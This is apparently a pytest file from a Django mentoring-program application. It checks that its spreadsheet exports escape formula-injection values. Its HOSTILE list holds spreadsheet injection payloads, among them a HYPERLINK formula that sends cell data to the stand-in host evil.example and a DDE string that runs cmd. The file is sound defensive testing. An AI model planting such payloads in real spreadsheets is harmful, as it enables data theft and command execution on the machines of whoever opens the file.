"""Every spreadsheet the system writes escapes text a spreadsheet would run as a formula
(issue 16, item 5): each export is written with hostile cells and read back with openpyxl."""

from __future__ import annotations

import datetime as dt
import io
from collections.abc import Iterator

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from nastavnik.core.spreadsheets import safe_cell, safe_row
from nastavnik.imports.exports import bases_workbook, skipped_rows_workbook, template_workbook
from nastavnik.imports.exports import safe_cell as reexported_safe_cell
from nastavnik.programs.exports import roadmap_workbook
from nastavnik.programs.models import MentoringForm, Program, RoadmapItem, Variant
from tests.conftest import Tenant, login
from tests.factories import EnrolmentFactory, PersonFactory

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&B5,"Открыть")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _cells(data: bytes) -> Iterator[object]:
    workbook = load_workbook(io.BytesIO(data))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


def _assert_no_formulas(data: bytes) -> list[str]:
    """No cell is a formula; the texts of the cells, for the test to find its hostile values."""
    texts = []
    for cell in _cells(data):
        assert cell.data_type != "f", cell.value  # type: ignore[attr-defined]
        if isinstance(cell.value, str):  # type: ignore[attr-defined]
            texts.append(cell.value)  # type: ignore[attr-defined]
    return texts


def test_the_helper_escapes_every_dangerous_start() -> None:
    assert reexported_safe_cell is safe_cell
    for value in HOSTILE:
        assert safe_cell(value) == "'" + value
    assert safe_row(["Иванова", 5, None, "=1"]) == ["Иванова", 5, None, "'=1"]


def test_the_roadmap_export_writes_no_formula(tenant_a: Tenant, program: Program) -> None:
    for number, value in enumerate(HOSTILE):
        RoadmapItem.objects.create(
            organization=program.organization,
            program=program,
            title=value,
            responsible=value,
            result=value,
            due_on=dt.date(2026, 10, 1 + number),
        )
    program.title = HOSTILE[0]
    program.save(update_fields=["title"])
    texts = _assert_no_formulas(roadmap_workbook(program=program))
    for value in HOSTILE:
        assert "'" + value in texts
    # And the page gives out the same file.
    response = login(tenant_a.curator).get(reverse("programs:roadmap_export", args=[program.pk]))
    _assert_no_formulas(response.content)


def test_the_bases_export_writes_no_formula(tenant_a: Tenant, program: Program) -> None:
    organization = program.organization
    organization.name = HOSTILE[0]
    variant = Variant.objects.create(form=program.form, code="hostile", name=HOSTILE[3])
    for value in HOSTILE:
        person = PersonFactory.create(
            organization=organization, last_name=value, class_name=value[:10]
        )
        EnrolmentFactory.create(program=program, person=person, variant=variant)
    texts = _assert_no_formulas(
        bases_workbook(
            organization=organization,
            year_title=HOSTILE[1],
            enrolments=program.enrolments.select_related("person", "program__form", "variant"),
        )
    )
    assert "'" + HOSTILE[0] in texts
    assert "'" + HOSTILE[3] in texts


def test_the_skipped_rows_report_writes_no_formula() -> None:
    texts = _assert_no_formulas(
        skipped_rows_workbook(
            headers=HOSTILE,
            rows=[{"row": 2, "cells": HOSTILE, "problems": [HOSTILE[0]]}],
        )
    )
    for value in HOSTILE:
        assert "'" + value in texts


def test_the_import_template_writes_no_formula() -> None:
    form = MentoringForm.objects.get(code="teacher-student")
    Variant.objects.create(form=form, code="hostile", name=HOSTILE[0])
    texts = _assert_no_formulas(template_workbook())
    assert f"'{HOSTILE[0]} ({form.name})" in texts
